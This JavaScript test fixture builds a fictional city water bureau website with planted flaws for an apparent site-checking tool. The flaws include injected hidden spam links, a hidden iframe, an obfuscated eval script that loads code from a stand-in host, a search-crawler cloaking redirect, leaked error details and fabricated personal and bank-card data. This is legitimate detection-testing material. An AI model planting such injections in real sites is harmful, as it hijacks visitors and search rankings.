// A second seeded site, by other habits than site.mjs: a bureau's site of the years when pages were laid out with tables, in
// GB18030 and upper case, with ASP.NET and JSP addresses, beside pages that are younger. What is planted: variants.txt.
import { ago } from './site.mjs'

// A bureau of a city: an organ. Two home pages are looked at as those of an institution.
export const bureau = {
	name: '白鹭市水务局', icp: '苏ICP备2021000123号-2', policeDigits: '32990202000777', siteCode: '3299000045',
	markId: 'ABCDEF0123456789E053022819AC5B6C',
}

// ---- GB18030: the two-byte part, turned round
const codes = new Map()
{
	const decoder = new TextDecoder('gb18030'), pair = new Uint8Array(2)
	for (pair[0] = 0x81; pair[0] < 0xff; pair[0]++)
		for (pair[1] = 0x40; pair[1] < 0xff; pair[1]++)
			if (pair[1] !== 0x7f)
				codes.set(decoder.decode(pair), [pair[0], pair[1]])
}
export const gb = text => Buffer.from([...text].flatMap(c => c.codePointAt(0) < 0x80 ? [c.codePointAt(0)] : codes.get(c) ?? [0x3f]))

const old = (body, headers = {}, status = 200) => ({ status, headers: { 'Content-Type': 'text/html', ...headers }, body: gb(body) })
const young = (body, headers = {}, status = 200) => ({ status, headers: { 'Content-Type': 'text/html; charset=UTF-8', ...headers }, body })
const of = (type, body = 'x') => ({ status: 200, headers: { 'Content-Type': type }, body })
const moved = (to, status = 302) => ({ status, headers: { Location: to }, body: '' })

const mark = (id = bureau.markId, color = 'red') =>
	`<SPAN ID="_ideConac"><A HREF="//bszs.conac.cn/sitename?method=show&id=${id}" TARGET="_blank" REL="noopener"><IMG ID="imgConac" BORDER=0 SRC="//dcs.conac.cn/image/${color}.png" ALT="党政机关"></A></SPAN>`
const scripted = (id, scheme = "'https:'==document.location.protocol?'https:':'http:'") =>
	`<SCRIPT LANGUAGE="javascript">document.write(unescape("%3Cspan id='_ideConac' %3E%3C/span%3E%3Cscript src='${scheme}//dcs.conac.cn/js/10/152/0000/60000001/${id}.js' type='text/javascript'%3E%3C/script%3E"));</SCRIPT>`

// The foot of a page as a table; null leaves a part out.
function foot(parts = {}) {
	const p = {
		owner: '主管单位：白鹭市水务局&nbsp;&nbsp;承办：白鹭市水务局办公室&nbsp;&nbsp;联系我们：0599-8880001', code: `网站标识码：${bureau.siteCode}`,
		icp: `<A HREF="https://beian.miit.gov.cn/" TARGET="_blank" REL="noopener">${bureau.icp}</A>`,
		police: `<A HREF="http://www.beian.gov.cn/portal/registerSystemInfo?recordcode=${bureau.policeDigits}" TARGET="_blank" REL="noopener"><IMG SRC="/images/ga.png" ALT="">苏公网安备 ${bureau.policeDigits}号</A>`,
		map: '<A HREF="/zddt.aspx">站点地图</A>', mark: mark(),
		entry: `<SCRIPT ID="_jiucuo_" SITECODE="${bureau.siteCode}" SRC="https://zfwzgl.www.gov.cn/exposure/jiucuo.js"></SCRIPT>`, ...parts,
	}
	return `<TABLE WIDTH=1000 ALIGN=CENTER CLASS=bottom><TR><TD ALIGN=CENTER>${[p.owner, p.map].filter(Boolean).join(' | ')}</TD></TR>
<TR><TD ALIGN=CENTER>${[p.icp, p.police, p.code].filter(Boolean).join('&nbsp;')}</TD></TR>
<TR><TD ALIGN=CENTER>${p.entry ?? ''}</TD></TR><TR><TD ALIGN=CENTER>${p.mark ?? ''}</TD></TR></TABLE>`
}
const tags = `<META NAME="SiteName" CONTENT="白鹭市水务局"><META NAME="SiteDomain" CONTENT="www.bailu.gov.cn"><META NAME="SiteIDCode" CONTENT="${bureau.siteCode}">`

// A page of the old kind.
function table(parts = {}) {
	const p = {
		html: '<HTML LANG="zh">', title: '白鹭市水务局', head: '', tags, top: '<TABLE WIDTH=1000 ALIGN=CENTER><TR><TD><H1>白鹭市水务局</H1></TD></TR></TABLE>', body: '', foot: foot(), ...parts,
	}
	return `<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN" "http://www.w3.org/TR/html4/loose.dtd">
${p.html}<HEAD><META HTTP-EQUIV="Content-Type" CONTENT="text/html; charset=gb2312">
${p.title === null ? '' : `<TITLE>${p.title}</TITLE>`}${p.tags}${p.head}</HEAD>
<BODY>${p.top}
<TABLE WIDTH=1000 ALIGN=CENTER><TR><TD VALIGN=TOP>
${p.body}
</TD></TR></TABLE>
${p.foot ?? ''}
</BODY></HTML>`
}

const text = '全市水利系统认真落实河湖长制，加强水库、堤防和涵闸的巡查值守，及时处置险情隐患，保障城乡供水安全和粮食生产用水。'
const tagsOf = (title, time) => `<META NAME="ArticleTitle" CONTENT="${title}"><META NAME="PubDate" CONTENT="${time}"><META NAME="ContentSource" CONTENT="白鹭市水务局">`
function article(title, body, { time = `${ago(9)} 10:20`, line = `发布日期：${time}　信息来源：白鹭市水务局`, ...rest } = {}) {
	return table({
		title: `${title}_白鹭市水务局`, head: tagsOf(title, time),
		body: `<TABLE WIDTH="100%"><TR><TD ALIGN=CENTER><B>${title}</B></TD></TR><TR><TD ALIGN=CENTER>${line}</TD></TR><TR><TD><P>${text}</P>${body}<P>${text}</P></TD></TR></TABLE>`, ...rest,
	})
}

const rowsOf = items => `<TABLE WIDTH="100%">${items.map(([t, h, d]) => `<TR><TD><IMG SRC="/images/dot.gif" ALT=""><A HREF="${h}" TITLE="${t}">${t}</A></TD><TD WIDTH=90>${d}</TD></TR>`).join('\n')}</TABLE>`
const columnTags = name => `<META NAME="ColumnName" CONTENT="${name}"><META NAME="ColumnDescription" CONTENT="${name}"><META NAME="ColumnKeywords" CONTENT="${name}"><META NAME="ColumnType" CONTENT="${name}">`
const column = (name, body, parts = {}) => table({ title: `${name}_白鹭市水务局`, head: columnTags(name), body: `<P>您现在的位置：<A HREF="/">首页</A> &gt;&gt; ${name}</P>${body}`, ...parts })

const works = first => [0, 1, 2, 3, 4].map(i => [`市水务局组织开展第${'一二三四五'[i]}轮防汛检查`, `/xx/${i + 1}.jsp`, `[${ago(first + i * 2).slice(5)}]`])
function home(parts = {}, { first = 2, extra = '<A HREF="/hd/">局长信箱</A> <A HREF="/hd/">网上信访</A>', search = '<FORM ACTION="/ss.aspx"><INPUT TYPE=TEXT NAME=keyword TITLE="请输入关键字"><INPUT TYPE=SUBMIT VALUE="检索"></FORM>' } = {}) {
	return table({
		title: '白鹭市水务局',
		body: `${search}<H2>工作动态</H2>${rowsOf(works(first))}<P>${extra} <A HREF="/zn/">办事指南</A></P><P><A HREF="/bb.html">${new Date().getFullYear() - 1}年度政府网站工作年度报表</A></P>`, ...parts,
	})
}
const modern = ({ title, head = '', body, lang = ' lang="zh-CN"' }) =>
	`<!doctype html><html${lang}><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"><title>${title}</title>${tags}${head}</head><body>${body}${foot()}</body></html>`

// Everything of `host`, by path (as sent: percent-encoded).
export function variantPages(host) {
	const p = {}
	const put = (path, answer) => { p[path] = answer }
	put('/', old(home({ body: home().split('<TD VALIGN=TOP>')[1].split('</TD></TR></TABLE>\n<TABLE WIDTH=1000 ALIGN=CENTER CLASS=bottom>')[0] + '<P><A HREF="/lj/">链接</A> <A HREF="/zt.html">专题专栏</A></P>' })))
	for (const [path, title] of [['/ss.aspx', '检索'], ['/zddt.aspx', '站点地图'], ['/hd/', '局长信箱'], ['/zn/', '办事指南'], ['/bb.html', '年度报表']])
		put(path, old(table({ title: `${title}_白鹭市水务局`, head: columnTags(title), body: `<P>${title}</P><P>${text}</P>` })))
	for (let i = 1; i <= 5; i++)
		put(`/xx/${i}.jsp`, old(article(`市水务局组织开展第${'一二三四五'[i - 1]}轮防汛检查`, '')))
	for (const n of ['ga.png', 'dot.gif', 'ok.png'])
		put(`/images/${n}`, of('image/png'))

	// links
	put('/lj/', old(table({ title: '链接', body: ['a.jsp', 'm.html', 'f.html', 'b.html', 'r.html', 'h.html'].map(n => `<A HREF=${n}>${n}</A>`).join(' ') })))
	put('/lj/a.jsp', old(table({
		title: '链接一', body: `<A HREF=gone.htm>一</A> <A HREF="两会 专题.htm">二</A> <A HREF="//${host}/lj/gone2.htm">三</A> <A HREF="../../../lj/x/../gone3.htm">四</A>
<A HREF="HTTPS://${host.toUpperCase()}/lj/gone4.htm">五</A> <A HREF="https://${host}./lj/gone5.htm">六</A> <A HREF="r1.aspx">七</A> <A HREF="javascript:location='/lj/gone6.htm'">八</A>
<A HREF="/lj/gone%20file%E4%B8%AD.doc">九</A> <A HREF="show.aspx?cid=3&amp;id=404">十</A>
<SELECT TITLE="友情链接" ONCHANGE="if(this.value)window.open(this.value)"><OPTION VALUE="">友情链接</OPTION><OPTION VALUE="/lj/gone7.htm">市政府</OPTION></SELECT>
<TD ONCLICK="window.location.href=&quot;/lj/gone8.htm&quot;">十一</TD> <A HREF=soft.aspx>十二</A> <A HREF=soft2.jsp>十三</A> <A HREF="http://水务局.invalid/">十四</A>
<A HREF=self.aspx>十五</A> <A HREF="http://www.bailu gov.cn/">十六</A> <A HREF="http://192.168.1.8:8080/oa">十七</A> <A HREF=http://172.16.5.4/x>十八</A> <A HREF=e500.aspx>十九</A>` })))
	put('/lj/r1.aspx', moved('r2.aspx', 301))
	put('/lj/r2.aspx', moved(`https://${host}/lj/r3.aspx`))
	put('/lj/r3.aspx', moved('/lj/gone9.htm', 307))
	put('/lj/self.aspx', moved('self.aspx'))
	put('/lj/soft.aspx', old('<HTML><HEAD><TITLE>404 - 找不到文件或目录。</TITLE></HEAD><BODY><H1>服务器错误</H1><H2>404 - 找不到文件或目录。</H2><H3>您要查找的资源可能已被删除，已更改名称或者暂时不可用。</H3></BODY></HTML>'))
	put('/lj/soft2.jsp', old(table({ title: '提示信息_白鹭市水务局', body: '<P>对不起，您要查看的文章不存在或已被删除！</P><A HREF="/">返回首页</A>' })))
	put('/lj/e500.aspx', old('<HTML><TITLE>错误</TITLE><BODY>系统繁忙</BODY></HTML>', {}, 500))
	put('/lj/m.html', young(modern({
		title: '媒体', head: `<link rel="preload" as="image" href="/lj/p/preload.webp"><meta property="og:image" content="/lj/p/og.png"><link rel="apple-touch-icon" href="/lj/p/touch.png">
<link rel="stylesheet" href="/lj/p/site.css"><style>@import url("/lj/p/print.css") print; .banner { background-image: image-set("/images/ok.png" 1x, "/lj/p/set2.png" 2x) }</style>`,
		body: `<img alt="一" src="/images/ok.png" srcset="/images/ok.png 320w, /lj/p/640.png 640w" sizes="100vw">
<img alt="图" src="/images/ok.png" usemap="#m"><map name="m"><area alt="区" shape="rect" coords="0,0,9,9" href="/lj/p/area.htm"></map>
<video controls><source src="/lj/p/v.mp4" type="video/mp4"></video><svg width="9" height="9"><use xlink:href="/lj/p/icons.svg#home"></use></svg>
<img alt="二" src="/images/ok.png" data-original="/lj/p/original.jpg"><img alt="三" src="/images/ok.png" lazy-src="/lj/p/lazy.jpg">
<ul><li class="go" data-href="/lj/p/data-href.html">四</li></ul><script>$(".go").click(function(){location.href=$(this).data("href")})</script>
<table><tr><td BACKGROUND=/lj/p/td.gif>五</td></tr></table>` })))
	put('/lj/p/site.css', of('text/css', '@font-face { font-family: icon; src: url("fonts/icon.eot?#iefix") format("embedded-opentype"), url(\'/images/ok.png\') }'))
	put('/lj/f.html', old('<HTML LANG=zh><HEAD><TITLE>框架</TITLE></HEAD><FRAMESET COLS="200,*"><FRAME SRC=left.htm NAME=l><FRAME SRC=/lj/main.htm NAME=m></FRAMESET></HTML>'))
	put('/lj/main.htm', old(table({ title: '主页', body: '主页' })))
	put('/lj/b.html', old(table({ title: '基址', head: '<BASE HREF="/lj/deep/" TARGET=_top>', body: '<A HREF=rel.htm>相对</A>' })))
	put('/lj/r.html', old(table({ title: '跳转', head: '<META HTTP-EQUIV=Refresh CONTENT="5;URL=\'/lj/gone10.htm\'">', body: '<INPUT TYPE=BUTTON VALUE="进入" ONCLICK="location.replace(\'/lj/gone11.htm\');return false">' })))
	put('/lj/h.html', young(modern({
		title: '友情链接', body: `<p id="第一章">一</p><a href="#第一章">一</a> <a href="#%E7%AC%AC%E4%B8%80%E7%AB%A0">一</a> <a href="#第二章">二</a> <a href="/lj/main.htm#%E7%AC%AC%E4%BA%8C%E7%AB%A0">三</a>
<a href="http://sold.example.com/">甲</a> <a href="http://casino.example.com/">乙</a> <a href="http://film.example.com/">丙</a> <a href="http://bailu.gov.cn.com/">丁</a>
<A TARGET=_blank HREF=http://plain.example.com/>戊</A> <a href="/lj/out.aspx">己</a>` })))
	put('/lj/out.aspx', moved('http://plain.example.com/', 301))

	// leaving
	const outside = '<TABLE><TR><TD><A HREF="http://plain.example.com/">友情单位</A></TD></TR></TABLE>'
	put('/lk/none.html', old(article('友情单位', outside)))
	put('/lk/jq.html', old(article('友情单位二', `${outside}<SCRIPT SRC="/inc/new.js"></SCRIPT><SCRIPT>$(function(){$("a[href^='http']").not("[href*='gov.cn']").click(function(){return confirm("您即将离开本网站，是否继续访问？")})})</SCRIPT>`)))
	put('/inc/new.js', of('application/javascript', '/*! jQuery v3.7.1 | (c) OpenJS Foundation and other contributors | jquery.org/license */\n!function(e,t){}(this);'))

	// home pages
	const front = (name, parts, how) => put(`/u/${name}/`, old(home(parts, how)))
	front('none', { foot: foot({ mark: null }) })
	front('red', { foot: foot({ mark: mark(bureau.markId, 'red') }) })
	front('http', { foot: foot({ mark: scripted('CA101520000600000010001', 'http:') }) })
	front('hidden', { foot: foot({ mark: `<DIV STYLE="DISPLAY:NONE">${mark()}</DIV>` }) })
	front('local', { foot: foot({ mark: `<A HREF="https://bszs.conac.cn/sitename?method=show&id=${bureau.markId}" TARGET=_blank REL=noopener><IMG SRC="/images/ga.png" ALT="党政机关标识"></A>` }) })
	front('header', { top: `<TABLE WIDTH=1000 ALIGN=CENTER><TR><TD><H1>白鹭市水务局</H1></TD><TD ALIGN=RIGHT>${mark()}</TD></TR></TABLE>`, foot: foot({ mark: null }) })
	front('foreign', { foot: foot({ mark: mark('00112233445566778899AABBCCDDEEFF') }) })
	front('no-icp', { foot: foot({ icp: '<A HREF="https://beian.miit.gov.cn/" TARGET="_blank" REL="noopener">备案申请中</A>' }) })
	front('police', { foot: foot({ police: `<A HREF="http://www.beian.gov.cn/portal/registerSystemInfo?recordcode=32990202000778">苏公网安备 ${bureau.policeDigits}号</A>` }) })
	front('code', { foot: foot({ code: '政府网站标识码：329900004', entry: null }), tags: '<META NAME="SiteName" CONTENT="白鹭市水务局">' })
	front('owner', { foot: foot({ owner: '技术支持：某某科技有限公司' }) })
	front('old', { foot: foot({ icp: `<A HREF="http://www.miitbeian.gov.cn" TARGET="_blank" REL="noopener">${bureau.icp}</A>` }) })
	front('name', { title: '首页 - Home', tags: '<META NAME="SiteDomain" CONTENT="www.bailu.gov.cn">', top: '<TABLE><TR><TD><IMG SRC="/images/ok.png" ALT="网站标题图"></TD></TR></TABLE>', foot: foot({ owner: '联系我们：0599-8880001' }) })
	front('other', { title: '白鹭市水利局', tags: tags.replace('白鹭市水务局', '白鹭市水利局'), top: '<TABLE><TR><TD><H1>白鹭市水利局</H1></TD></TR></TABLE>' })
	front('stale', {}, { first: 25, extra: '', search: '' })

	// tags
	put('/bq/domain.html', old(article('标签一', '', { tags: tags.replace('NAME="SiteDomain" CONTENT="www.bailu.gov.cn"', 'CONTENT="www.qingshan.gov.cn" NAME="SITEDOMAIN"') })))
	put('/bq/code.html', old(article('标签二', '', { tags: tags.replace(bureau.siteCode, '32990000451') })))
	put('/bq/date.html', old(article('标签三', '', { head: tagsOf('标签三', '2026年7月1日'), line: '发布日期：2026-07-01　信息来源：白鹭市水务局' })))
	put('/bq/column/', old(column('政策法规', rowsOf([1, 2, 3, 4, 5].map(i => [`关于加强河湖管理的第${i}项规定`, `/xx/${i}.jsp`, ago(20 + i)])), { head: '' })))

	// reprints, columns, dates
	const told = '人民日报记者从水利部获悉，今年以来全国新开工重大水利工程数量创历史同期新高，完成水利建设投资同比增长，有力带动了就业。'
	put('/zz/rmrb.html', old(article('全国水利建设提速', `<P>${told}</P>`, { line: `时间：${ago(12)}　稿源：人民日报　点击：23` })))
	put('/zz/xinhua.html', old(article('水利投资创新高', `<P>${told}</P>`, { head: '<META NAME="ArticleTitle" CONTENT="水利投资创新高"><META NAME="ContentSource" CONTENT="新华社">', line: '信息来源：<A HREF="http://www.news.cn/politics/1.htm">新华社</A>　浏览次数：45' })))
	put('/zz/said.html', old(article('节水小常识', `<P>${told}</P><P>（本文转载自网络）</P>`, { line: `发布日期：${ago(12)}` })))
	put('/lm/gzdt/', old(column('工作动态', rowsOf([0, 1, 2, 3].map(i => [`水库巡查简报第${i + 1}期`, `/xx/${i + 1}.jsp`, `(${ago(50 + i * 6).replaceAll('-', '.')})`])))))
	put('/lm/gsgg/', old(column('公示公告', rowsOf([0, 1, 2].map(i => [`水利工程招标结果第${i + 1}号`, `/xx/${i + 1}.jsp`, ago(310 + i * 9).replaceAll('-', '/')])))))
	put('/lm/ghjh/', old(column('规划计划', '<P>内容更新中……</P>')))
	put('/rq/month.html', old(article('水费征收', '<P>缴费截止日期为2026年13月5日。</P>')))
	put('/rq/day.html', old(article('停水通知', '', { line: '发布日期：2026/09/31　信息来源：白鹭市水务局', head: tagsOf('停水通知', '2026-09-30 09:00') })))
	put('/rq/future.html', old(article('来年安排', '', { time: `${ago(-45)} 08:00`, line: `发表日期：${ago(-45)}　信息来源：白鹭市水务局` })))
	put('/rq/number.html', old(article('转发文件', '<P>根据白政发【2025】12号和白水〔2025〕第12号文件精神，请抓好落实。</P>')))
	put('/rq/word.html', old(article('被改的文章', '<P>澳门新葡京真人娱乐，注册送彩金，百家乐在线投注，欢迎加入。</P>')))
	put('/zn/qs.html', old(article('取水许可办事指南', '<DL><DT>事项名称：</DT><DD>取水许可</DD><DT>申请条件：</DT><DD>取水单位或者个人</DD><DT>申报材料：</DT><DD>申请书、论证报告</DD><DT>办理流程：</DT><DD>申请、受理、审查、决定</DD></DL>')))
	put('/luntan/', old(table({ title: '水务论坛 - Powered by phpwind', tags: '', body: '<A HREF="/luntan/read.php?tid=1">版务</A><P>Powered by <B>phpwind v8.7</B> Certificate Copyright Time now is</P>' })))
	put('/luntan/read.php', old(table({ title: '版务', body: '版务公告' })))
	put('/gg/ad.html', old(article('节水', '<SCRIPT SRC="https://cpro.baidustatic.com/cpro/ui/c.js"></SCRIPT>')))

	// open standards
	put('/kf/ie.aspx', old(article('网上申报', '<P>温馨提示：本系统仅支持IE8.0及以上版本浏览器，其他浏览器不支持，请更换浏览器后登录。</P>')))
	put('/kf/ax.aspx', old(article('签章', '<SCRIPT>var o=new ActiveXObject("WebOffice.Control.1");o.Open();</SCRIPT>')))
	put('/kf/flash.aspx', old(article('动画', '<EMBED SRC=/kf/a.swf WIDTH=400 HEIGHT=300>')))
	put('/kf/a.swf', of('application/x-shockwave-flash', 'CWS'))
	put('/kf/wx.html', old(article('用水报装', '<P>该业务仅限微信小程序办理，请关注“白鹭水务”微信公众号后申请。</P>')))
	put('/kf/et.html', old(article('表格', '<P>附件：<A HREF="/kf/sb.et">用水计划申报表</A></P>')))
	put('/kf/sb.et', of('application/octet-stream'))

	// third parties and forms
	put('/sj/cnzz.html', old(article('统计', '<SCRIPT SRC="https://s4.cnzz.com/z_stat.php?id=1250000000&web_id=1250000000" LANGUAGE="JavaScript"></SCRIPT>')))
	put('/sj/ga.html', old(article('统计二', '<SCRIPT ASYNC SRC="https://www.googletagmanager.com/gtag/js?id=UA-1-1"></SCRIPT>')))
	put('/sj/login.aspx', old(table({ title: '登录', body: `<FORM METHOD=POST ACTION=http://${host}/sj/login.aspx><TABLE><TR><TD>账号</TD><TD><INPUT NAME=txtUser TITLE="账号"></TD></TR><TR><TD>密码</TD><TD><INPUT TYPE=PASSWORD NAME=txtPwd TITLE="密码"></TD></TR></TABLE><INPUT TYPE=SUBMIT VALUE="登录"></FORM>` })))
	put('/sj/person.aspx', old(table({ title: '报名', body: '<FORM METHOD=POST ACTION=/sj/person.aspx><TABLE><TR><TD>姓　　名：</TD><TD><INPUT NAME=ctl00$c1></TD></TR><TR><TD>身份证号码：</TD><TD><INPUT NAME=ctl00$c2></TD></TR><TR><TD>手机：</TD><TD><INPUT NAME=ctl00$c3></TD></TR></TABLE><INPUT TYPE=SUBMIT VALUE="提交"></FORM>' })))
	put('/sj/wj.html', old(article('问卷', '<FORM METHOD=POST ACTION=https://wj.example.net/s><LABEL>意见<TEXTAREA NAME=yj></TEXTAREA></LABEL><INPUT TYPE=SUBMIT VALUE="提交"></FORM>')))
	put('/sj/cdn.html', old(article('组件', '<SCRIPT SRC=//cdn.example.net/a.js></SCRIPT>')))
	put('/sj/map.html', old(article('位置', '<IFRAME SRC="https://map.example.net/x" WIDTH=400 HEIGHT=300 TITLE="地图"></IFRAME>')))

	// front-end code
	put('/qd/lib.html', old(article('脚本库', '<SCRIPT SRC="/inc/jq.js"></SCRIPT><SCRIPT SRC="/inc/jquery-ui-1.10.4.custom.min.js"></SCRIPT><SCRIPT SRC="/inc/ng.js"></SCRIPT>')))
	put('/inc/jq.js', of('application/x-javascript', '/*! jQuery v1.7.2 jquery.com | jquery.org/license */\n(function(a,b){})(window);'))
	put('/inc/jquery-ui-1.10.4.custom.min.js', of('application/x-javascript', '(function(e,t){})(jQuery);'))
	put('/inc/ng.js', of('application/x-javascript', '/*\n AngularJS v1.5.8\n (c) 2010-2016 Google, Inc. http://angularjs.org\n License: MIT\n*/\n(function(C){})(window);'))
	put('/qd/mixed.html', old(article('混合', '<IFRAME SRC="http://map.example.net/y" WIDTH=400 HEIGHT=300 TITLE="地图"></IFRAME>', { head: `<LINK REL=StyleSheet HREF=http://cdn.example.net/a.css>${tagsOf('混合', `${ago(9)} 10:20`)}` })))
	put('/qd/cookie.aspx', old(article('会话', ''), { 'Set-Cookie': 'ASP.NET_SessionId=kz0m1x55mwzq3v45rl5k1b45; path=/; HttpOnly', 'X-AspNet-Version': '4.0.30319' }))
	put('/qd/error.aspx', old('<html><head><title>未将对象引用设置到对象的实例。</title></head><body bgcolor="white"><span><H1>“/”应用程序中的服务器错误。<hr width=100% size=1 color=silver></H1><h2><i>未将对象引用设置到对象的实例。</i></h2></span><b>异常详细信息: </b>System.NullReferenceException: 未将对象引用设置到对象的实例。<br><b>源文件: </b> d:\\wwwroot\\bailu\\list.aspx.cs<b> &nbsp;&nbsp; 行: </b> 47<pre>[NullReferenceException: 未将对象引用设置到对象的实例。]\n   list.Page_Load(Object sender, EventArgs e) in d:\\wwwroot\\bailu\\list.aspx.cs:47</pre></body></html>'))
	put('/qd/error.html', old(table({ title: '栏目', body: '<br />\n<b>Warning</b>:  mysql_connect(): Access denied for user \'root\'@\'localhost\' (using password: YES) in <b>/var/www/html/inc/conn.php</b> on line <b>12</b><br />' })))
	put('/upload/', old(`<html><head><title>${host} - /upload/</title></head><body><H1>${host} - /upload/</H1><hr>\n<pre><A HREF="/">[转到父目录]</A><br><br> 2025/3/4    10:12         2048 <A HREF="/upload/a.doc">a.doc</A><br></pre><hr></body></html>`))
	put('/upload/a.doc', of('application/msword'))
	put('/doc/', old('<html><head><title>Directory Listing For /doc/</title></head><body><h1>Directory Listing For /doc/ - <a href="/"><b>Up To /</b></a></h1><HR size="1" noshade="noshade"><table width="100%"><tr><td>Filename</td><td>Size</td><td>Last Modified</td></tr><tr><td><a href="/doc/b.doc"><tt>b.doc</tt></a></td><td>2.0 kb</td></tr></table><HR size="1"><h3>Apache Tomcat/7.0.42</h3></body></html>'))
	put('/doc/b.doc', of('application/msword'))

	// accessibility
	put('/wza/en.html', young(`<HTML><HEAD><META CHARSET=UTF-8><TITLE></TITLE></HEAD><BODY><BGSOUND SRC="/wza/a.mid" LOOP=-1><H1>Water Affairs Bureau of Bailu</H1><P>Welcome to the English site of the bureau.</P>
<IMG SRC=/images/ok.png WIDTH=300 HEIGHT=200><SELECT NAME=lang><OPTION>English<OPTION>Chinese</SELECT><A HREF=/xx/1.jsp><IMG SRC=/images/ga.png ALT=""></A></BODY></HTML>`))
	put('/wza/a.mid', of('audio/midi'))
	put('/wza/m.html', young(modern({ title: '手机版', body: '<h1>手机版</h1>' }).replace('initial-scale=1', 'initial-scale=1.0, minimum-scale=1.0, maximum-scale=1.0')))

	// planted
	put('/al/indent.html', old(article('河长制', '<DIV STYLE="TEXT-INDENT:-9999px"><A HREF="http://qp.example.net/">棋牌</A></DIV>')))
	put('/al/off.html', old(article('水质', '<div style="position:absolute;left:-2000px;top:-800px"><a href=http://sx.example.net/>手机配资</a></div>')))
	put('/al/frame.html', old(article('雨情', '<IFRAME SRC=http://ml.example.net/1.htm STYLE="visibility:hidden" WIDTH=100 HEIGHT=100></IFRAME>')))
	put('/al/code.html', old(article('汛情', `<SCRIPT>eval(String.fromCharCode(${[...'document.write("<script src=http://ml.example.net/x.js></script>")'].map(c => c.charCodeAt(0)).join(',')}))</SCRIPT>`)))
	put('/al/spider.html', old(article('旱情', '<SCRIPT>var u=navigator.userAgent.toLowerCase();if(/baiduspider|sogou|360spider|bingbot/.test(u)){window.location.href="http://qp.example.net/seo"}</SCRIPT>')))
	put('/al/jump.html', old(article('跳转页', '<SCRIPT>setTimeout(function(){window.top.location.replace("http://qp.example.net/")},300)</SCRIPT>')))
	put('/bm/secret.html', old(table({ title: '文件_白鹭市水务局', body: '<P>秘 密 ★ 5年</P><P>白水〔2025〕9号</P><H2>关于供水水源地情况的报告</H2><P>市人民政府：</P>' })))
	put('/bm/internal.html', old(table({ title: '简报_白鹭市水务局', body: '<P>内部资料　注意保存</P><H2>水务简报</H2><P>第7期</P>' })))
	put('/bm/id.html', old(article('补助公示', '<P>经审核，拟对张三（身份证号：340524 19800101 001X）发放移民补助。</P>')))
	put('/bm/card.html', old(article('退款', '<P>退款账号：6222 0000 0000 0000 000，开户行：某银行。</P>'.replace('6222 0000 0000 0000 000', '6222 0210 0112 3456 78' + luhn('622202100112345678')))))
	put('/bm/phone.html', old(article('河长名单', '<TABLE><TR><TD>姓名</TD><TD>手机</TD></TR><TR><TD>张三</TD><TD>13800001234</TD></TR><TR><TD>李四</TD><TD>13900005678</TD></TR></TABLE>')))

	const begin = Object.keys(p).filter(k => /^\/(lk|bq|zz|lm|rq|zn|luntan|gg|kf|sj|qd|upload|doc|wza|al|bm)\/./.test(k + '.') && /(\.html|\.aspx|\/)$/.test(k))
	put('/zt.html', old(table({ title: '专题专栏_白鹭市水务局', head: columnTags('专题专栏'), body: begin.map(k => `<P><A HREF="${k}">专题${k.replaceAll('/', ' ')}</A></P>`).join('\n') })))
	return p
}

// The digit that makes a number of 19 digits pass.
function luhn(digits) {
	const sum = [...digits].reverse().reduce((s, c, i) => {
		const n = Number(c) * (i % 2 ? 1 : 2)
		return s + (n > 9 ? n - 9 : n)
	}, 0)
	return String((10 - sum % 10) % 10)
}

export const variantFronts = ['none', 'red', 'http', 'hidden', 'local', 'header', 'foreign', 'no-icp', 'police', 'code', 'owner', 'old', 'name', 'other', 'stale'].map(n => `/u/${n}/`)

export const gone = old('<HTML><HEAD><TITLE>无法找到该页</TITLE></HEAD><BODY>无法找到该页</BODY></HTML>', {}, 404)
export const outsideOf = {
	'sold.example.com': young('<html><head><title>sold.example.com</title></head><body><h1>sold.example.com</h1><p>This domain may be for sale! Click here to inquire about this domain.</p></body></html>'),
	'casino.example.com': old('<html><head><title>开云体育(中国)官方网站-登录入口</title></head><body>开云体育官方网站为您提供真人视讯、棋牌游戏、电子竞技、彩票投注，注册即送彩金，首存优惠，APP下载</body></html>'),
	'film.example.com': young('<html><head><meta charset="utf-8"><title>国产精品在线观看</title></head><body><p>无码视频 成人电影 免费黄色网站 激情视频 18禁 未满18岁禁止进入</p></body></html>'),
}
